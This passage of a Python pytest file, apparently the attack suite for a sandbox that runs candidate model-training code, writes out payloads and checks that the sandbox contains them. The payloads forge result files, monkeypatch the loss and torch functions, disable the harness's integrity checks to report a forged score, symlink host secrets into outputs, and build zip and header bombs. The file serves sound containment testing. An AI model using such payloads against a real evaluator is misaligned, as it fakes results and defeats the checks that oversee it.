                    with open("out/result.json", "w") as f:
                        f.write(json.dumps(real))
                    os._exit(0)
                except (OSError, ValueError):
                    time.sleep(0.0005)
            os._exit(0)
        """), "import", {"process": "crashed|ok", "docker": "crashed|ok"}, check_not_forged),
    Attack("monkeypatch_the_loss", lambda c: cnn_source("import torch.nn.functional as F", """
        def fake_loss(*args, **kwargs):
            return torch.zeros((), requires_grad=True)
        F.cross_entropy = fake_loss
        """), "attribute-store", both("invalid"), check_tampered),
    Attack("monkeypatch_torch", lambda c: cnn_source("", """
        def zero(self):
            return 0.0
        torch.Tensor.item = zero
        torch.isfinite = lambda t: torch.tensor(True)
        """), "attribute-store", both("invalid"), check_tampered),
    Attack("disable_the_harness_checks", lambda c: cnn_source("import sys", f"""
        h = sys.modules["sandbox.harness"]
        h.Integrity.check = lambda self: None
        h.mean_loss = lambda xs: {FORGED}
        """), "import", both("invalid"), check_tampered,
        residual="in-process code that reaches the harness module can switch its checks off "
                 "and report any score; only the gate (no sys/importlib/gc/frames) stops it"),
    Attack("exit_early_os_exit_0", lambda c: cnn_source("import os", "os._exit(0)"),
           "import", both("crashed"), check_exit0),
    Attack("exit_early_system_exit_0", lambda c: cnn_source("", "raise SystemExit(0)"),
           None, both("invalid"), lambda c, r: None),
    Attack("nan_weights", lambda c: cnn_source("", """
        model = nn.Sequential(nn.Flatten(), nn.Linear(16, num_classes))
        nn.init.constant_(model[1].weight, float("nan"))
        return model
        """), None, both("invalid"), lambda c, r: None),
    Attack("huge_logits", lambda c: cnn_source("", """
        model = nn.Sequential(nn.Flatten(), nn.Linear(16, num_classes))
        with torch.no_grad():
            model[1].weight[0].fill_(1e30)
            model[1].weight[1].fill_(-1e30)
        return model
        """), None, both("invalid"), check_huge),
    Attack("nul_byte", lambda c: cnn_source("# \x00", "pass"), "encoding", both("refused")),
    Attack("lone_surrogate", lambda c: cnn_source("# \udc80", "pass"), "encoding",
           both("refused")),
    Attack("invalid_utf8_bytes", lambda c: b"\xff\xfe" + cnn_source("", "pass").encode(),
           "encoding", both("refused")),
    Attack("enormous_source", lambda c: cnn_source("# " + "x" * 2_000_000, "pass"), "size",
           both("refused")),
    Attack("deeply_nested_ast", lambda c: cnn_source("x = " + "-" * 30000 + "1", "pass"),
           "nesting", both("invalid"), lambda c, r: None),
    Attack("malformed_weights_header_bomb", lambda c: TINY, None, both("invalid"),
           kind="generate", model_kind="t5", needs=("weights_header_bomb",)),
    Attack("symlinks_and_junk_in_the_output", lambda c: cnn_source("import os", f"""
        os.symlink({str(c.host.victim)!r}, "out/weights.safetensors")
        os.symlink({str(c.host.victim)!r}, "out/.weights.safetensors.tmp")
        os.symlink({str(c.host.secret)!r}, "out/extra.safetensors")
        with open("out/junk.safetensors", "wb") as f:
            f.write((10 ** 12).to_bytes(8, "little") + b"{{")
        """), "import", both("ok"), check_outputs, kind="train_lm"),
    Attack("swap_weights_for_a_symlink_after_the_harness", lambda c: cnn_source("import os, time", f"""
        if os.fork() == 0:
            for _ in range(30000):
                if os.path.exists("out/result.json"):
                    os.unlink("out/weights.safetensors")
                    os.symlink({str(c.host.secret)!r}, "out/weights.safetensors")
                    os._exit(0)
                time.sleep(0.0005)
            os._exit(0)
        """), "import", {"process": "crashed|ok", "docker": "crashed|ok"}, check_swapped_outputs,
        kind="train_lm"),
]
BY_NAME = {a.name: a for a in ATTACKS}
assert len(BY_NAME) == len(ATTACKS)


# --------------------------------------------------------------------------- running

def is_deny(attack: Attack, backend: str) -> bool:
    """A confinement test (tests/support/sabotage.py); the Docker socket attack only where
    this host has a Docker socket to protect."""
    docker_like = "docker" if backend == "gvisor" else backend
    return sabotage.is_deny(attack.name, docker_like) and (
        attack.name != "use_docker_socket" or DOCKER_SOCKET.exists())


GVISOR_PIDS = 192    # docs/docker.md: what runsc needs on top of a job's pids
# Not attacked on gVisor: the fork bomb's limit of 32 cannot be kept there (runsc's own
# threads count against it; test_docker_backend.py bounds processes on runsc); the CPU
# quota is on runsc's own cgroup, which the sandbox cannot see.
NOT_ON_GVISOR = ("fork_bomb", "spend_cpu_unbounded")


def _params(deny_marks: bool = True, attacks=ATTACKS, gvisor: bool = False):
    """(attack, backend) for every attack on both backends; with `gvisor`, also the
    attacks that are confinement tests on Docker, in Docker with the runsc runtime."""
    out = []
    for a in attacks:
        for b in BACKENDS + (("gvisor",) if gvisor else ()):
            if b == "gvisor" and (not is_deny(a, "docker") or a.name in NOT_ON_GVISOR):
                continue
            marks = [pytest.mark.docker] if b != "process" else []
            if deny_marks and b != "gvisor" and is_deny(a, b):
                marks.append(pytest.mark.deny)
            out.append(pytest.param(a, b, id=f"{a.name}-{b}", marks=marks))
    return out


def _header_bomb(path: Path) -> Path:
    header = json.dumps({"w": {"dtype": "F32", "shape": [1 << 20, 1 << 20],
                               "data_offsets": [0, 1 << 42]}}).encode()
    path.write_bytes(struct.pack("<Q", len(header)) + header + bytes(16))
    return path


def _zip_bomb(path: Path) -> Path:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("archive/data.pkl", bytes(256 * 1024 * 1024))   # ~250 KB compressed
    path.write_bytes(buf.getvalue())
    return path


def _t5_data(tmp_path: Path) -> Path:
    import torch
    from safetensors.torch import save_file
    g = torch.Generator().manual_seed(0)
    p = tmp_path / "t5.safetensors"
    save_file({"input_ids": torch.randint(2, 60, (4, 6), generator=g),
               "attention_mask": torch.ones(4, 6, dtype=torch.int64),
               "labels": torch.randint(2, 60, (4, 4), generator=g)}, str(p))
    return p


def make_ctx(attack: Attack, backend_name: str, request, host, tmp_path: Path) -> Ctx:
    ctx = Ctx(host=host, backend_name=backend_name, out_dir=tmp_path / "out")
    if "tcp" in attack.needs:
        ctx.tcp = request.getfixturevalue("tcp_server")
    if "udp" in attack.needs:
        ctx.udp = request.getfixturevalue("udp_server")
    if "marker" in attack.needs:
        ctx.marker = f"{random.randint(5000, 9999)}.{random.randint(10**8, 10**9)}"
    if "shm" in attack.needs:           # a host IPC object: a POSIX shm file, 0600 root
        name = f"selfprog-attack-{uuid.uuid4().hex[:12]}"
        fd = os.open(f"/dev/shm/{name}", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
        os.write(fd, host.token.encode())
        os.close(fd)
        request.addfinalizer(lambda: os.unlink(f"/dev/shm/{name}"))
        ctx.extra.update(shm=name, ipc_ns=os.readlink("/proc/self/ns/ipc"))
    if "compilers" in attack.needs:
        ctx.extra["compilers"] = host_c_compilers()
        if not ctx.extra["compilers"]:
            pytest.skip("no C compiler on this host to attack with")
    if "target" in attack.needs:
        d = host.dir / f"target-{uuid.uuid4().hex[:8]}"
        d.mkdir(mode=0o755)
        os.chmod(d, 0o755)
        (d / "victim.txt").write_text("unchanged")
        os.chmod(d / "victim.txt", 0o644)
        ctx.target_dir = d
    return ctx


def make_job(attack: Attack, ctx: Ctx, cnn_data: Path, tmp_path: Path) -> Job:
    lim = {"timeout_s": 60, "memory_mb": 1024, "pids": 64, "output_mb": 16, **attack.limits}
    if ctx.backend_name == "gvisor":    # gVisor's pids limit counts its own threads too
        lim["pids"] += GVISOR_PIDS
    if attack.model_kind == "t5":
        params = {"vocab_size": 64, "n": 1, "max_new_tokens": 4, "prompt_ids": [5, 6, 7]}
        inputs = {"data": str(_t5_data(tmp_path))}
        if "weights_header_bomb" in attack.needs:
            inputs["weights"] = str(_header_bomb(tmp_path / "bomb.safetensors"))
        if "weights_zip_bomb" in attack.needs:
            inputs["weights"] = str(_zip_bomb(tmp_path / "zip.safetensors"))
    else:
        params = {"num_classes": 2, "input_shape": [1, 4, 4], "epochs": 1}
        inputs = {"data": str(cnn_data)}
    # Not validated here: some attacks are jobs the schema must refuse.
    return Job(job_id=f"atk-{attack.name[:40]}-{uuid.uuid4().hex[:8]}", kind=attack.kind,
               source=attack.source(ctx), model_kind=attack.model_kind, inputs=inputs,
               params=params, limits=Limits(**lim))


def leftovers(backend_name: str, sandbox, job: Job) -> list[str]:
    """What a finished run must not leave behind: containers, job dirs, processes (a warm
    backend keeps its next idle sandbox: only the one the job ran in must be gone)."""
    workroot = Path(sandbox.workroot)
    left = [p.name for p in workroot.iterdir()] if workroot.exists() else []
    run = sandbox.last_run
    if run is not None and run.warm:
        left = [run.jobdir.name] if run.jobdir.exists() else []
        if backend_name != "process":
            left += [c.name for c in sandbox.client.containers.list(
                all=True, filters={"id": run.container_id})]
    elif backend_name != "process":
        from sandbox.backends.docker_profile import LABEL_JOB
        left += [c.name for c in sandbox.client.containers.list(
            all=True, filters={"label": f"{LABEL_JOB}={job.job_id}"})]
    elif sandbox.last_run is not None and sandbox.last_run.uid is not None:
        left += [f"pid {pid}" for pid, u in _processes() if u == sandbox.last_run.uid]
    return left


def execute_and_check(attack: Attack, backend_name: str, sandbox, ctx: Ctx, job: Job,
                      through_gate: bool, warm: bool = False) -> Result:
    expected = attack.expect.get(backend_name) or attack.expect["docker"]   # gvisor: docker's
    started = []

    class Counting:   # the real backend; only counts that a sandbox was asked for
        def execute(self, job, out_dir):
            started.append(job.job_id)
            return sandbox.execute(job, out_dir)

    try:
        if expected == "refused":
            with pytest.raises(SchemaError):
                Counting().execute(job, ctx.out_dir)
            return None
        result = (runner.run(job, ctx.out_dir, Counting()) if through_gate
                  else Counting().execute(job, ctx.out_dir))
        assert result.status in expected.split("|"), (attack.name, result.status, result.reason,
                                                      result.logs[-2000:])
        assert result.reason or result.status == "ok", "a failure must carry its reason"
        attack.check(ctx, result)
        assert bool(sandbox.last_run and sandbox.last_run.warm) == warm, \
            f"ran {'cold' if warm else 'warm'}, expected the other"
        return result
    finally:
        left = leftovers(backend_name, sandbox, job)
        if ctx.marker:                           # never leave an escapee running here
            for pid in _marked(ctx.marker):
                os.kill(pid, signal.SIGKILL)
        assert not left, f"left behind: {left}"


@pytest.mark.parametrize("attack,backend_name", _params(gvisor=True))
def test_attack_in_the_sandbox(attack, backend_name, sandbox, request, host, cnn_data, tmp_path,
                               monkeypatch):
    """The gate bypassed: the sandbox alone must contain the attack."""
    residual = (attack.residual.get(backend_name, "") if isinstance(attack.residual, dict)
                else attack.residual)
    if residual:
        request.applymarker(pytest.mark.xfail(strict=True, reason="documented residual risk "
                                              "(SECURITY.md): " + residual))
    monkeypatch.setenv("SELFPROG_TEST_ATTACK_SECRET", host.token)
    ctx = make_ctx(attack, backend_name, request, host, tmp_path)
    execute_and_check(attack, backend_name, sandbox, ctx,
                      make_job(attack, ctx, cnn_data, tmp_path), through_gate=False)


@pytest.mark.parametrize("attack,backend_name",
                         _params(attacks=[BY_NAME[n] for n in sabotage.WARM]))
def test_attack_in_a_warm_sandbox(attack, backend_name, request, host, cnn_data, tmp_path,
                                  monkeypatch):
    """The same attacks in a pre-warmed sandbox (prewarm=1): it is confined like a cold
    one, and SELFPROG_SABOTAGE reaches it the same way."""
    sandbox = request.getfixturevalue(f"{backend_name}_warm_backend")
    monkeypatch.setenv("SELFPROG_TEST_ATTACK_SECRET", host.token)
    ctx = make_ctx(attack, backend_name, request, host, tmp_path)
    job = make_job(attack, ctx, cnn_data, tmp_path)
    sandbox.prewarm_for(job)
    if not sandbox._can_warm():
        pytest.skip("no pre-warmed process sandboxes without the per-job uid "
                    "(SELFPROG_SABOTAGE=user)")
    assert sandbox._pool.wait_ready(300), "no pre-warmed sandbox became ready"
    execute_and_check(attack, backend_name, sandbox, ctx, job, through_gate=False, warm=True)


@pytest.mark.parametrize("attack,backend_name", _params(deny_marks=False))
def test_attack_through_the_gate(attack, backend_name, sandbox, request, host, cnn_data, tmp_path,
                                 monkeypatch):
    """The full path (`runner.run`): the gate's rule where it rejects, else the sandbox."""
    monkeypatch.setenv("SELFPROG_TEST_ATTACK_SECRET", host.token)
    ctx = make_ctx(attack, backend_name, request, host, tmp_path)
    job = make_job(attack, ctx, cnn_data, tmp_path)
    if attack.gate is None:
        execute_and_check(attack, backend_name, sandbox, ctx, job, through_gate=True)
        return
    started = []

    class Counting:
        def execute(self, job, out_dir):
            started.append(job.job_id)
            return sandbox.execute(job, out_dir)

    result = runner.run(job, ctx.out_dir, Counting())
    assert result.status == "rejected", (result.status, result.reason)
    assert result.reason.startswith(attack.gate + ":"), result.reason
    assert not started, "a rejected candidate reached the sandbox"


@pytest.mark.sabotage_control
@pytest.mark.parametrize("backend_name", [pytest.param("process"),
                                          pytest.param("docker", marks=pytest.mark.docker)])
def test_backend_still_serves_after_the_attacks(backend_name, sandbox, cnn_data, cnn_labels,
                                                tmp_path):
    """Normal behaviour: after everything above, a plain candidate still scores."""
    job = Job(job_id=f"benign-{uuid.uuid4().hex[:8]}", kind="evaluate",
              source=cnn_source("", "pass"), model_kind="cnn", inputs={"data": str(cnn_data)},
              params={"num_classes": 2, "input_shape": [1, 4, 4], "epochs": 1, "score": "accuracy"},
              limits=Limits(timeout_s=60, memory_mb=1024, pids=64, output_mb=16),
              labels=str(cnn_labels)).validate()
    result = runner.run(job, tmp_path / "out", sandbox)
    assert result.status == "ok", (result.reason, result.logs[-2000:])
    assert 0 <= result.score <= 1 and result.param_count == 34
    assert not leftovers(backend_name, sandbox, job)


@pytest.mark.parametrize("make", [lambda p: _zip_bomb(p), lambda p: _header_bomb(p)],
                         ids=["zip_bomb", "header_bomb"])
def test_bombs_where_weights_are_expected_are_refused_by_collect(make, tmp_path, cnn_data):
    """A train_lm result that declares a zip bomb (torch.save's format) or a header that
    promises terabytes as its weights: the trusted side reads only the 8-byte length
    and the header, refuses it, and copies nothing (no decompression, no allocation)."""
    import shutil
    from sandbox.backends.collect import collect
    from sandbox.backends.staging import stage
    job = Job(job_id="bomb", kind="train_lm", source=cnn_source("", "pass"), model_kind="cnn",
              inputs={"data": str(cnn_data)},
              params={"num_classes": 2, "input_shape": [1, 4, 4]}).validate()
    jobdir = stage(job, tmp_path / "w")
    shutil.copyfile(make(tmp_path / "bomb.bin"), jobdir / "out" / "weights.safetensors")
    (jobdir / "out" / "result.json").write_text(json.dumps(
        {"job_id": "bomb", "kind": "train_lm", "status": "ok", "outputs": ["weights.safetensors"]}))
    r = collect(job, jobdir, tmp_path / "dest", exit_code=0, timed_out=False, oom_killed=False,
                stdout_tail=b"", stderr_tail=b"", duration_s=1.0)
    assert r.status == "crashed" and "weights.safetensors" in r.reason, r
    assert not (tmp_path / "dest").exists() or not any((tmp_path / "dest").iterdir())
